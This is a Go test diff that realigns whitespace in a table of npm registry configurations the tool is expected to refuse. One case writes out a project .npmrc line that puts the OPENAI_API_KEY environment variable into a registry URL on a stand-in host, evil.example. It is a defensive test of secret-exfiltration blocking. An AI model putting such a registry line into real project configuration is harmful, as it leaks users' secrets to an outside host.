@@ -98,9 +98,9 @@ func TestNpmRefuses(t *testing.T) {
 		files map[string]string
 		words string
 	}{
-		"not a URL":      {map[string]string{"user": "registry=registry.example"}, ".npmrc"},
-		"other scheme":   {map[string]string{"user": "registry=ftp://registry.example/"}, "http"},
-		"unset variable": {map[string]string{"user": "registry=https://${NO_SUCH}/"}, "NO_SUCH"},
+		"not a URL":                              {map[string]string{"user": "registry=registry.example"}, ".npmrc"},
+		"other scheme":                           {map[string]string{"user": "registry=ftp://registry.example/"}, "http"},
+		"unset variable":                         {map[string]string{"user": "registry=https://${NO_SUCH}/"}, "NO_SUCH"},
 		"secret of the environment in a project": {map[string]string{"project": "registry=https://evil.example/${OPENAI_API_KEY}/"}, "~/.npmrc"},
 	} {
 		t.Run(name, func(t *testing.T) {
